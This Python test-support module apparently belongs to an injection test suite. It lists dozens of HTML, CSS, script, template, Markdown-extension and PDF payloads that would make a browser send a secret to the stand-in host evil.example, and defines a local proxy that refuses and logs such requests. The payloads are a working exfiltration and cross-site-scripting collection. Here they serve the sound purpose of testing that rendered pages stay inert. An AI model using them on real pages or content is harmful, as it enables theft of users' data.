"""What would make a browser fetch, open or run something, were it ever read as more than text; and who would see it.

tests/injection/shapes.py has what a renderer of Markdown would act upon; here is what only a browser does.
"""

from __future__ import annotations

import re
import threading
from collections.abc import Iterator
from contextlib import contextmanager, suppress
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

from tests.injection.shapes import SECRET, SHAPES

_AT = f"//evil.example/{SECRET}"
# To leave the page, and to look a name up or greet its server.
_LEAVING = (
    f"<link rel=preconnect href=http:{_AT}>",
    f"<link rel=dns-prefetch href={_AT}>",
    f'<meta http-equiv="refresh" content="0;url=http:{_AT}">',
    f"<svg onload=\"location='http:{_AT}'\">",
    f"<div x-init=\"location='http:{_AT}'\"></div>",
)
_FETCHED = (
    f"<link rel=prefetch href=http:{_AT}>",
    f"<link rel=preload as=image href=http:{_AT}>",
    f"<link rel=modulepreload href=http:{_AT}>",
    f"<link rel=prerender href=http:{_AT}>",
    f"<link rel=manifest href=http:{_AT}>",
    f'<link rel="shortcut icon" href=http:{_AT}>',
    f"<img srcset='http:{_AT} 1x, http:{_AT}?2 2x'>",
    f"<img sizes=100vw srcset='http:{_AT} 100w'>",
    f"<picture><source srcset='http:{_AT}'><img src=''></picture>",
    f"<img loading=eager src='ht\ntp:{_AT}'>",
    f"<img src='\thttp:{_AT}'>",
    f"<img src='&#104;&#116;tp:{_AT}'>",
    f"<img src='&sol;&sol;evil.example/{SECRET}'>",
    f"<img src='http:\\\\evil.example\\{SECRET}'>",
    f"<img src='http://xn--vil-bma.example/{SECRET}'>",
    f"<img src='http://évil.example/{SECRET}'>",
    f"<img src='http://ｅｖｉｌ.example/{SECRET}'>",
    f"<img src='http://evil\u3002example/{SECRET}'>",
    f"<img src='http://127.0.0.2:9/{SECRET}'>",
    f"<img src='/collect?d={SECRET}'>",
    f"<img src='?d={SECRET}'>",
    f"\u202e<img src='http:{_AT}'>\u202c",
    f"<i\u200bmg src='http:{_AT}'>",
    f"<video src='http:{_AT}' autoplay muted></video>",
    f"<video><source src='http:{_AT}'><track default src='http:{_AT}'></video>",
    f"<audio autoplay><source src='http:{_AT}'></audio>",
    f"<object type='image/svg+xml' data='http:{_AT}'></object>",
    f"<object><param name=movie value='http:{_AT}'></object>",
    f"<applet code='http:{_AT}'></applet>",
    f"<frameset><frame src='http:{_AT}'></frameset>",
    f"<iframe srcdoc='&lt;img src=http:{_AT}&gt;'></iframe>",
    f"<portal src='http:{_AT}'></portal>",
    f"<body background='http:{_AT}'>",
    f"<table background='http:{_AT}'><tr><td>x</td></tr></table>",
    f"<svg><use href='http:{_AT}#x'/></svg>",
    f"<svg><feImage href='http:{_AT}'/></svg>",
    f"<svg><style>*{{fill:url(http:{_AT})}}</style><rect/></svg>",
    f"<svg><animate attributeName=href values='http:{_AT}' begin=0s></svg>",
    f"<style>*{{background:url(http:{_AT})}}</style>",
    f"<style>@font-face{{font-family:x;src:url(http:{_AT})}}*{{font-family:x}}</style>",
    f"<style>*{{list-style:image-set(url(http:{_AT}) 1x)}}</style>",
    f"<p style='content:url(http:{_AT});cursor:url(http:{_AT}),auto'>x</p>",
    f"<script type=module>import 'http:{_AT}'</script>",
    f"<script>new WebSocket('ws:{_AT}')</script>",
    f"<script>navigator.sendBeacon('http:{_AT}','{SECRET}')</script>",
    f"<script>new EventSource('http:{_AT}')</script>",
    f"<script>new Image().src='http:{_AT}'</script>",
    "<script>new RTCPeerConnection({iceServers:[{urls:'stun:evil.example:3478'}]}).createDataChannel('x')</script>",
    f"<details open ontoggle=fetch('http:{_AT}')>x</details>",
    f"<input autofocus onfocus=fetch('http:{_AT}')>",
    f"<body onload=fetch('http:{_AT}')>",
    f"<img src=data:image/gif;base64,R0lGODlhAQABAAAAACw= onload=fetch('http:{_AT}')>",
    f"<div x-data x-init=\"fetch('http:{_AT}')\"></div>",
    f"<div x-data=\"{{a: fetch('http:{_AT}')}}\"></div>",
    f"<div x-data x-html=\"'<img src=http:{_AT}>'\"></div>",
    f"<img x-data x-bind:src=\"'http:{_AT}'\">",
    f"<div hx-get='http:{_AT}' hx-trigger=load></div>",
    f"<div data-hx-post='http:{_AT}' data-hx-trigger=load></div>",
    f"<div hx-on::load=\"fetch('http:{_AT}')\"></div>",
    f"<div hx-ext=sse sse-connect='http:{_AT}'></div>",
    f"<div data-poll='http:{_AT}'></div>",
    f"<div id=x data-refresh='http:{_AT}'></div>",
    f"'\"><img src=http:{_AT}>",
    f"</p></div></main><img src=http:{_AT}>",
    f"--></style></script></title></textarea><img src=http:{_AT}>",
    f"]]><img src=http:{_AT}>",
)
_OTHER_LANGUAGES = (
    f"{{{{ constructor.constructor(\"fetch('http:{_AT}')\")() }}}}",
    f"{{% include 'http:{_AT}' %}}{{{{ request|safe }}}}",
    f"${{fetch('http:{_AT}')}} <%= fetch('http:{_AT}') %> #{{fetch('http:{_AT}')}}",
    f"\\includegraphics{{http:{_AT}}} \\url{{http:{_AT}}} $\\href{{http:{_AT}}}{{x}}$",
    f"```mermaid\ngraph TD; A[<img src=http:{_AT}>] --> B; click B 'http:{_AT}'\n```",
    f":evil: :x[y](http:{_AT}): <:evil:{SECRET}>",
    f"\x1b]8;;http:{_AT}\x1b\\click\x1b]8;;\x1b\\ \x1b[31mred",
    f"[[http:{_AT}|x]] {{{{http:{_AT}}}}} [img]http:{_AT}[/img]",
    f".. image:: http:{_AT}\n\ninclude::http:{_AT}[]",
    f"%PDF-1.7 /URI (http:{_AT}) /JavaScript (app.launchURL('http:{_AT}'))",
)
ALL = (*SHAPES, *_FETCHED, *_OTHER_LANGUAGES, *_LEAVING)
# What no Content-Security-Policy stops: the pages alone keep it from being read as more than text. Of a frame that
# the policy refuses Chromium greets the server all the same, by name and without a request.
BEYOND_POLICY = (
    *_LEAVING,
    *(s for s in SHAPES if "http-equiv=refresh" in s or s.startswith("<iframe src='https:")),
)
FETCHING = tuple(s for s in ALL if s not in BEYOND_POLICY)


# Its maker's services, which the browser asks with no page open at all; no shape names them.
_OF_THE_BROWSER = re.compile(
    r"\w+ (?:https?://)?(?:[\w-]+\.)*(?:google|googleapis|gvt1|duckduckgo)\.com[:/].*"
)


class Sink:
    """A proxy that lets nothing through, and writes down what it was asked for."""

    def __init__(self) -> None:
        self._asked: list[str] = []
        asked = self._asked

        class Refusal(BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                asked.append(f"{self.command} {self.path}")
                with suppress(OSError):
                    self.send_error(502)

            do_CONNECT = do_HEAD = do_OPTIONS = do_POST = do_PUT = do_GET

            def log_message(self, format: str, *args: object) -> None:
                """Say nothing."""

        self._server = ThreadingHTTPServer(("127.0.0.1", 0), Refusal)
        self.port = int(self._server.server_port)
        threading.Thread(target=self._server.serve_forever, daemon=True).start()

    @property
    def asked(self) -> list[str]:
        """Return what was asked for on behalf of pages."""
        return [a for a in self._asked if SECRET in a or not _OF_THE_BROWSER.fullmatch(a)]

    def stop(self) -> None:
        """Let the port go."""
        self._server.shutdown()
        self._server.server_close()


@contextmanager
def sink() -> Iterator[Sink]:
    """Have a sink for a while."""
    found = Sink()
    try:
        yield found
    finally:
        found.stop()
